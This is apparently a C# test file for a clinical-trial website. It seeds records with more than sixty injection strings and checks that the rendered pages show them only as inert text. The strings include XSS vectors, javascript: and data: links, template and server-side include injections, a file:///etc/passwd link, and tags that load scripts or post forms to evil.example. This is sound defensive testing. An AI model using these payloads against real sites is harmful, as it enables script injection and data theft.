using System.Net;

namespace TrialSite.Web.Tests;

/// <summary>A seed in which every field is an attack is shown as words.</summary>
public sealed class AttackSeedTests
{
    private static readonly string[] AllowedSchemes = ["http", "https"];

    private static readonly string[] Attacks =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>", "</title><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<iframe src=javascript:alert(1)>", "<object data=\"data:text/html,<script>alert(1)</script>\">", "<embed src=x>", "<base href=//evil.example/>",
        "<form action=//evil.example><input name=email></form>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>",
        "<style>*{display:none}</style>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
        "\" onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus='", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "{{7*7}}", "@Model.Trial", "@{ var x = 1; }",
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](<javascript:alert(1)>)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:msgbox(1))", "[x](file:///etc/passwd)", "[x](//evil.example)", "[x](/follow/stop/token)", "[x](ftp://evil.example)",
        "[x]: javascript:alert(1)", "[x][y]\n\n[y]: javascript:alert(1)", "<javascript:alert(1)>", "<data:text/html,x>", "<https://evil.example/autolink>", "<someone@evil.example>",
        "![x](https://evil.example/pixel.png)", "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "[x](https://ok.example \"onmouseover=alert(1)\")", "[x](https://ok.example){onclick=alert(1)}",
        "# heading {#id onclick=alert(1)}", "```html\n<script>alert(1)</script>\n```", "`<script>alert(1)</script>`", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
        "<!--#exec cmd=\"id\"-->", "<?php echo 1; ?>", "<xml><x>]]></x></xml>", "${alert(1)}", "\u202Ealert(1)\u202C", "<a href=\"https://evil.example\" target=_blank>x</a>",
    ];

    private static readonly string Flood = string.Concat(Enumerable.Repeat("[a](", 2000));

    [Fact]
    public async Task A_seed_full_of_attacks_is_shown_as_words()
    {
        Assert.True(Attacks.Length >= 60);
        await using var site = new SiteFixture();
        _ = site.Services;
        var inTexts = Seed("NCT92000001", "plain title", string.Join("\n\n", Attacks), "plain condition", "plain place");
        var inLines = Attacks.Select((attack, i) => ($"NCT9200{i + 100:0000}.txt", Seed($"NCT9200{i + 100:0000}", OneLine(attack), OneLine(attack), OneLine(attack), OneLine(attack)))).ToArray();
        var report = await site.Reseed([("NCT92000001.txt", inTexts), ("NCT92000002.txt", Seed("NCT92000002", "plain title", Flood, "plain condition", "plain place")), .. inLines]);
        Assert.Equal(Attacks.Length + 2, report.Total(Import.SeedOutcome.New));
        foreach (var row in report.Rows.Where(row => row.Outcome == Import.SeedOutcome.New))
            await AssertHarmless(site, $"/trials/{row.NctId}");
        await AssertHarmless(site, "/trials");
        await AssertHarmless(site, "/conditions");
        await AssertHarmless(site, "/");
    }

    private static async Task AssertHarmless(SiteFixture site, string address)
    {
        using var visitor = site.Visitor();
        using var response = await visitor.GetAsync(address);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var page = await SiteFixture.Read(response);
        Assert.All(page.QuerySelectorAll("script:not([src^='/site.'], [src^='/search.'])"), script => Assert.Equal("application/ld+json", script.GetAttribute("type")));
        Assert.All(page.QuerySelectorAll("script[src]"), script => Assert.Equal("", script.TextContent));
        Assert.Empty(page.QuerySelectorAll("iframe, object, embed, base, style, math, video, audio, meta[http-equiv], main img, main link"));
        Assert.Empty(page.QuerySelectorAll("svg:not(.wordmark > svg, .map > svg, .sheet > svg, .dawn), svg :not(path)")); // The map and the code are ours, and lines alone.
        Assert.All(page.QuerySelectorAll("form"), form => Assert.StartsWith("/", form.GetAttribute("action"), StringComparison.Ordinal));
        foreach (var element in page.All)
            Assert.DoesNotContain(element.Attributes, attribute => attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || attribute.Name == "style");
        foreach (var link in page.QuerySelectorAll("[href]").Select(element => element.GetAttribute("href")!))
            Assert.True(link.StartsWith('/') && !link.StartsWith("//", StringComparison.Ordinal) || link.StartsWith('#') || AllowedSchemes.Contains(new Uri(link, UriKind.Absolute).Scheme), link);
    }

    private static string OneLine(string text) => text.ReplaceLineEndings(" ");

    private static string Seed(string nctId, string title, string text, string condition, string place) => $"""
        {title}

        NCT ID {nctId}

        Summary

        {text}

        What this could mean

        Active substance

        {text}

        What this could lead to

        {text}

        What could go wrong

        {text}

        A risk in words, without which a benefit is rejected.

        Conditions

        {condition}

        As listed by the trial registrant

        {condition}

        Contacts and locations

        Study contacts

          • {place}

            Phone: •••-•••-•••• Email: •••••@•••••

        Locations

          • {place}

            RECRUITING

            Leeds, United Kingdom
        """;
}
